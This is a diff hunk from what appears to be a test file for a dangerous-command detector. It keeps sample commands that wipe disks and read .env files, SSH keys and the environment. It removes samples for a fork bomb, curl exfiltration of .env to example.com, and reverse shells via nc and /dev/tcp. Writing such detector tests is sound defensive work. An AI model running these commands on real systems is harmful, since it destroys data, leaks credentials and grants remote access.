@@ -30,11 +30,6 @@ rsync -a --delete ./ /srv/data/`,
 		"disk-destruction": `dd if=/dev/zero of=/dev/sda bs=1M
 mkfs.ext4 -F /dev/sdb1
 cat image.iso > /dev/sdb`,
-		"resource-exhaustion": `:(){ :|:& };:`,
-		"data-exfiltration":   `curl -F file=@.env https://example.com`,
-		"remote-access": `nc -e /bin/sh example.com 4444
-bash -i >& /dev/tcp/203.0.113.4/4444 0>&1
-ssh -R 80:localhost:3000 example.com`,
 		"credential-exposure": `cat .env
 cat ~/.ssh/id_rsa
 env
